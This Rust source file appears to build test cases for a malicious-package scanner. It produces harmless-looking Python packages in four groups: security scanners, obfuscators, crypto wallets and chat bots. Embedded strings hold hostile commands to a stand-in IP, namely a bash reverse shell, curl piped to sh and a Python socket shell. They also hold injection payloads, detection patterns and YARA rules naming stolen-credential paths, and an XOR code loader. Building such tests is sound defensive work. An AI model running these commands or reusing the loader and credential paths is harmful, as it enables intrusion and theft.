//! Families 19 to 22: tools that know attacks, hide code for a living, hold keys or write to chats.

use crate::case::{Cases, Trigger::Call};
use crate::package::{module, sdist, wheel};

pub(crate) fn add(cases: &mut Cases) {
    scanners(cases);
    obfuscators(cases);
    wallets(cases);
    bots(cases);
}

fn scanners(cases: &mut Cases) {
    cases
        .family(19, "security-tools", Call)
        .case("rule-strings", wheel().file("«pkg»/rules.py", r##"
"""What the scanner looks for."""
import re

PATTERNS = {
    "exec-base64": re.compile(r"exec\s*\(\s*(?:__import__\(['\"]base64['\"]\)\.)?b64decode"),
    "curl-pipe-shell": re.compile(r"curl\s+[^|]+\|\s*(?:ba)?sh"),
    "reverse-shell": re.compile(r"bash -i >& /dev/tcp/"),
    "aws-key": re.compile(r"AKIA[0-9A-Z]{16}"),
    "discord": re.compile(r"https://discord(?:app)?\.com/api/webhooks/\d+/"),
}
EXAMPLES = [
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "os.system('curl http://192.0.2.8/x | sh')",
    "bash -i >& /dev/tcp/192.0.2.8/4444 0>&1",
    "powershell -enc SQBFAFgA",
    "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.8\",1));os.dup2(s.fileno(),0)'",
]
SENSITIVE = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.pypirc", "Login Data", "wallet.dat", "169.254.169.254"]


def scan(text):
    return [name for name, pattern in PATTERNS.items() if pattern.search(text)]
"##))
        .case("plugin-for-linter", wheel().file("«pkg»/checks/exec_used.py", r#"
import ast

DANGEROUS = {"exec", "eval", "os.system", "subprocess.Popen", "pickle.loads", "marshal.loads", "__import__"}


class Visitor(ast.NodeVisitor):
    """B102: test for use of exec

    .. code-block:: none

        >> Issue: Use of exec detected.
        exec(__import__('base64').b64decode(payload))
    """

    def __init__(self):
        self.issues = []

    def visit_Call(self, node):
        name = ast.unparse(node.func)
        if name in DANGEROUS or name.endswith("b64decode"):
            self.issues.append((node.lineno, name))
        self.generic_visit(node)
"#))
        .case("packet-tool", module(r#"
import socket, struct, sys
SHELLCODE = b"\x90\x90\x90\x90\xcc"
PAYLOADS = {"sqli": "' OR 1=1 --", "xss": "<script>alert(1)</script>", "cmd": "; cat /etc/passwd", "ssrf": "http://169.254.169.254/latest/meta-data/"}

def sniff(count, interface="eth0"):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
    s.bind((interface, 0))
    return [s.recv(65535) for _ in range(count)]

def send(packet, destination):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 69, 0, 20, 1, 0, 64, 6, 0, b"\0" * 4, socket.inet_aton(destination)) + packet, (destination, 0))
"#))
        .case("yara-rules", wheel().file("«pkg»/rules/stealer.yar", r#"
rule stealer {
  strings:
    $a = "exec(requests.get(" ascii
    $b = "\\Google\\Chrome\\User Data\\Default\\Login Data" ascii
    $c = "curl -s http://192.0.2.8/x | bash" ascii
  condition: any of them
}
"#).file("«pkg»/engine.py", "from pathlib import Path\n\ndef rules():\n    return [p.read_text() for p in (Path(__file__).parent / 'rules').glob('*.yar')]\n"));
}

fn obfuscators(cases: &mut Cases) {
    cases
        .family(20, "obfuscation-libraries", Call)
        .case("minifier", wheel().file("«pkg»/compress.py", r#"
import base64, bz2, lzma, zlib

TEMPLATE = "import {module}, base64\nexec({module}.decompress(base64.b64decode('{data}')))\n"

def best(source):
    """The shortest self-extracting form of a script."""
    methods = {"zlib": zlib.compress, "bz2": bz2.compress, "lzma": lzma.compress}
    results = [TEMPLATE.format(module=name, data=base64.b64encode(method(source.encode())).decode()) for name, method in methods.items()]
    return min(results + [source], key=len)
"#))
        .case("protector", wheel().file("«pkg»/encrypt.py", r#"
import argparse, marshal, os, sys, zlib

LOADER = '''from {runtime} import __load__
__load__(__name__, __file__, {blob!r})
'''

def protect(path, runtime="runtime_0000"):
    with open(path, encoding="utf-8") as f:
        code = compile(f.read(), path, "exec")
    blob = zlib.compress(marshal.dumps(code))
    blob = bytes(b ^ 0x5A for b in blob)
    return LOADER.format(runtime=runtime, blob=blob)

def main():
    parser = argparse.ArgumentParser(description="Protect Python scripts")
    parser.add_argument("script")
    parser.add_argument("-o", "--output", default="dist")
    args = parser.parse_args()
    os.makedirs(args.output, exist_ok=True)
    with open(os.path.join(args.output, os.path.basename(args.script)), "w") as f:
        f.write(protect(args.script))
"#).entry_points("[console_scripts]\n«name» = «pkg».encrypt:main\n"))
        .case("cloudpickle-like", module(r#"
import marshal, pickle, types, base64

def dumps(function):
    return base64.b64encode(pickle.dumps((function.__name__, marshal.dumps(function.__code__))))

def loads(blob):
    name, code = pickle.loads(base64.b64decode(blob))
    return types.FunctionType(marshal.loads(code), globals(), name)
"#));
}

fn wallets(cases: &mut Cases) {
    cases
        .family(21, "crypto-wallets", Call)
        .case("mnemonic", wheel().file("«pkg»/mnemonic.py", r#"
import hashlib, hmac, re, secrets
from pathlib import Path

WORDLIST = "abandon ability able about above absent absorb abstract absurd abuse access accident".split()
ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")

def generate(words=12):
    return " ".join(secrets.choice(WORDLIST) for _ in range(words))

def to_seed(mnemonic, passphrase=""):
    return hashlib.pbkdf2_hmac("sha512", mnemonic.encode(), b"mnemonic" + passphrase.encode(), 2048)

def load_keystore(path="~/.ethereum/keystore"):
    return [p.read_text() for p in Path(path).expanduser().glob("UTC--*")]

def is_address(text):
    return bool(ADDRESS.match(text))
"#))
        .case("exchange-client", module(r#"
import hashlib, hmac, time
import requests

class Exchange:
    url = "https://api.exchange.example.com"
    def __init__(self, key, private_key):
        self.key, self.private_key = key, private_key
    def order(self, pair, amount):
        body = {"pair": pair, "amount": amount, "nonce": int(time.time() * 1000)}
        signature = hmac.new(self.private_key.encode(), repr(body).encode(), hashlib.sha256).hexdigest()
        return requests.post(self.url + "/order", json=body, headers={"X-Key": self.key, "X-Sign": signature}).json()
"#))
        .case("solana-cli-config", module(r#"
import json, os
import httpx
DEFAULT = os.path.join(os.path.expanduser("~"), ".config", "solana", "id.json")

def load_keypair(path=DEFAULT):
    with open(path) as f:
        return bytes(json.load(f))

def balance(address, rpc="https://api.mainnet-beta.solana.com"):
    return httpx.post(rpc, json={"jsonrpc": "2.0", "id": 1, "method": "getBalance", "params": [address]}).json()
"#));
}

fn bots(cases: &mut Cases) {
    cases
        .family(22, "bot-frameworks", Call)
        .case("discord", wheel().file("«pkg»/webhook.py", r#"
import re
import aiohttp

BASE = "https://discord.com/api/v10"
PATTERN = re.compile(r"discord(?:app)?\.com/api/webhooks/(?P<id>[0-9]{17,20})/(?P<token>[A-Za-z0-9\.\-\_]{60,})")


class Webhook:
    def __init__(self, url, session):
        match = PATTERN.search(url)
        if match is None:
            raise ValueError("Invalid webhook URL given.")
        self.id, self.token, self.session = int(match["id"]), match["token"], session

    async def send(self, content, *, username=None, files=()):
        payload = {"content": content, "username": username}
        form = aiohttp.FormData()
        for index, file in enumerate(files):
            form.add_field(f"file{index}", file)
        async with self.session.post(f"{BASE}/webhooks/{self.id}/{self.token}", json=payload) as answer:
            return await answer.json()
"#))
        .case("telegram", wheel().file("«pkg»/bot.py", r#"
import os
import requests

class Bot:
    def __init__(self, token=None, base_url="https://api.telegram.org/bot"):
        self.base_url = base_url + (token or os.environ["TELEGRAM_TOKEN"])

    def send_message(self, chat_id, text):
        return requests.post(f"{self.base_url}/sendMessage", data={"chat_id": chat_id, "text": text}).json()

    def send_document(self, chat_id, path):
        with open(path, "rb") as document:
            return requests.post(f"{self.base_url}/sendDocument", data={"chat_id": chat_id}, files={"document": document}).json()

    def get_updates(self, offset=None):
        return requests.get(f"{self.base_url}/getUpdates", params={"offset": offset, "timeout": 30}).json()["result"]
"#))
        .case("notify-command", sdist().file("«pkg»/__init__.py", "").file("«pkg»/notify.py", r#"
import platform, smtplib, socket, sys, traceback
import requests
from email.message import EmailMessage

def notify(webhook, function):
    """Tell a chat when a long function ends."""
    def wrapped(*args, **kwargs):
        try:
            value = function(*args, **kwargs)
            requests.post(webhook, json={"text": f"{function.__name__} ended on {socket.gethostname()}"})
            return value
        except Exception:
            requests.post(webhook, json={"text": traceback.format_exc()})
            raise
    return wrapped

def mail(to, subject, server="localhost"):
    message = EmailMessage()
    message["To"], message["Subject"] = to, subject
    message.set_content(f"{platform.node()}: {sys.argv}")
    with smtplib.SMTP(server) as smtp:
        smtp.send_message(message)
"#));
}
